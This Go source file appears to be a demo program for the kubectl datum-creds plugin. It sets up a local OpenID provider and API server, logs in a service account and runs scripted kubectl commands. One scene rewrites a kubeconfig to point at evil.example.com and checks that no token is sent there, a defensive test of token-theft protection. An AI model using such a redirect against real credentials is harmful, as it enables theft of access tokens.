// Command credsdemo shows kubectl datum-creds at work: a service account signs
// in at an OpenID provider on this machine, and real kubectl uses its tokens on
// a real API server, behind Datum's control-plane paths. All of it is removed
// at the end.
package main

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"github.com/go-logr/logr"
	"sigs.k8s.io/controller-runtime/pkg/log"

	"github.com/datum-cloud/kubectl-plugins/hack/internal/checkout"
	"github.com/datum-cloud/kubectl-plugins/hack/internal/controlplane"
	"github.com/datum-cloud/kubectl-plugins/hack/internal/oidc"
	"github.com/datum-cloud/kubectl-plugins/hack/internal/planes"
	"github.com/datum-cloud/kubectl-plugins/hack/internal/process"
	"github.com/datum-cloud/kubectl-plugins/hack/internal/servers"
	"github.com/datum-cloud/kubectl-plugins/pkg/common/cli"
	"github.com/datum-cloud/kubectl-plugins/pkg/common/failure"
)

const (
	audience = "https://api.datum.test"
	project  = "/apis/resourcemanager.miloapis.com/v1alpha1/projects/shop/control-plane"
)

func main() {
	process.GuardIfAsked()
	log.SetLogger(logr.Discard())
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	err := run(ctx)
	stop()
	os.Exit(int(cli.Report(os.Stderr, err)))
}

func run(ctx context.Context) (err error) {
	dir, err := os.MkdirTemp("", "credsdemo-")
	if err != nil {
		return err
	}
	guardian, err := process.StartGuardian(filepath.Join(dir, "pids"), dir)
	if err != nil {
		return err
	}
	defer func() { err = errors.Join(err, guardian.Release()) }()
	s := &stage{dir: dir}
	defer func() { err = errors.Join(s.strike(), err) }()
	if err := s.build(ctx); err != nil {
		return err
	}
	return s.play(ctx)
}

// stage is what the demonstration runs on.
type stage struct {
	dir      string
	provider *oidc.Provider
	cluster  *controlplane.Cluster
	planes   *planes.Proxy
	kubectl  string
}

func (s *stage) path(name string) string { return filepath.Join(s.dir, name) }

// build starts the provider, the API server and the control planes, and puts
// the plugin on PATH.
func (s *stage) build(ctx context.Context) error {
	say("Start an OpenID provider and an API server that trusts it (built the first time: some minutes)")
	node, err := exec.LookPath("node")
	if err != nil {
		return failure.New(failure.Unable, "hack/install-deps.sh", "node is missing")
	}
	certificate, err := oidc.NewCertificate(s.dir)
	if err != nil {
		return err
	}
	robot, err := oidc.NewAccount("4711")
	if err != nil {
		return err
	}
	options := oidc.Options{Node: node, Certificate: certificate, Audience: audience, Life: time.Hour, Accounts: []oidc.Account{robot}}
	if s.provider, err = oidc.Start(ctx, options); err != nil {
		return err
	}
	if err := s.startCluster(ctx, certificate); err != nil {
		return err
	}
	config := s.cluster.Config()
	s.planes, err = planes.Serve(planes.Options{
		CertFile: certificate.CertFile, KeyFile: certificate.KeyFile, Upstream: config.Host, UpstreamCA: config.CAData, Prefixes: []string{project},
	})
	if err != nil {
		return err
	}
	if err := robot.WriteKeyFile(s.path("robot.json"), s.provider.Issuer, s.planes.URL); err != nil {
		return err
	}
	return s.install(ctx)
}

func (s *stage) startCluster(ctx context.Context, certificate oidc.Certificate) error {
	provider, err := servers.New(os.Stderr)
	if err != nil {
		return err
	}
	paths, err := provider.Ensure(ctx, servers.Kubectl)
	if err != nil {
		return err
	}
	s.kubectl = paths[servers.Kubectl]
	flags, err := s.provider.APIServerFlags(s.dir, audience, certificate)
	if err != nil {
		return err
	}
	s.cluster, err = controlplane.Start(ctx, controlplane.Options{
		Name: "demo", Dir: s.path("cluster"), Records: s.path("pids"), Servers: provider, APIServerFlags: flags,
	})
	return err
}

// install builds the plugin and makes the PATH that the commands have.
func (s *stage) install(ctx context.Context) error {
	root, err := checkout.Root("")
	if err != nil {
		return err
	}
	if err := os.Mkdir(s.path("bin"), 0o700); err != nil {
		return err
	}
	if err := os.Symlink(s.kubectl, s.path("bin/kubectl")); err != nil {
		return err
	}
	cmd := exec.CommandContext(ctx, "go", "build", "-o", s.path("bin/kubectl-datum_creds"), "./plugins/kubectl-datum-creds")
	cmd.Dir = root
	cmd.Env = append(os.Environ(), "GOWORK=off", "CGO_ENABLED=0")
	if said, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("build the plugin: %w\n%s", err, said)
	}
	// What the service account may do, as an administrator grants it.
	grant := exec.CommandContext(ctx, s.kubectl, "--kubeconfig", s.cluster.Kubeconfig(), "create", "clusterrolebinding", "robot", "--clusterrole=view", "--user=4711")
	if said, err := grant.CombinedOutput(); err != nil {
		return fmt.Errorf("grant: %w\n%s", err, said)
	}
	return nil
}

// strike takes down what the guardian does not.
func (s *stage) strike() error {
	var err error
	if s.planes != nil {
		err = s.planes.Close()
	}
	if s.cluster != nil {
		err = errors.Join(err, s.cluster.Stop())
	}
	if s.provider != nil {
		err = errors.Join(err, s.provider.Close())
	}
	return err
}

// play runs the scenes.
func (s *stage) play(ctx context.Context) error {
	say("Sign a service account in; its key stays in its file")
	scenes := []func() error{
		func() error {
			return s.shell(ctx, 0, "kubectl datum-creds login --credentials robot.json --ca-file ca.pem --name robot")
		},
		func() error { return s.shell(ctx, 0, "kubectl datum-creds update-kubeconfig --project shop") },
		func() error {
			say("kubectl asks the plugin for a token by itself")
			return s.shell(ctx, 0, "kubectl auth whoami")
		},
		func() error { return s.shell(ctx, 0, "kubectl get configmaps -n kube-system") },
		func() error { return s.shell(ctx, 0, "kubectl datum-creds status") },
		func() error {
			say("In CI: a kubeconfig from a key alone. There is no secret in it")
			return s.shell(ctx, 0, "DATUM_CREDENTIALS_FILE=robot.json kubectl datum-creds kubeconfig --project shop --stdout")
		},
		func() error {
			say("A kubeconfig that wants the token for a server of its own does not get it")
			return s.shell(ctx, 1, "sed 's#server: https://[^/]*#server: https://evil.example.com#' kubeconfig > stolen && kubectl --kubeconfig stolen get --raw /version")
		},
		func() error { return s.shell(ctx, 0, "kubectl datum-creds logout") },
	}
	for _, scene := range scenes {
		if err := scene(); err != nil {
			return err
		}
	}
	return nil
}

// shell shows a command and runs it; it must end with the code.
func (s *stage) shell(ctx context.Context, code int, line string) error {
	fmt.Printf("$ %s\n", line)
	cmd := exec.CommandContext(ctx, "sh", "-c", line)
	cmd.Dir = s.dir
	cmd.Env = []string{"HOME=" + s.dir, "KUBECONFIG=" + s.path("kubeconfig"), "PATH=" + s.path("bin") + ":" + os.Getenv("PATH")}
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stdout
	err := cmd.Run()
	if cmd.ProcessState == nil || cmd.ProcessState.ExitCode() != code {
		return fmt.Errorf("%s: %w", strings.Fields(line)[0], errors.Join(err, ctx.Err()))
	}
	return nil
}

func say(text string) { fmt.Printf("\n%s\n", text) }
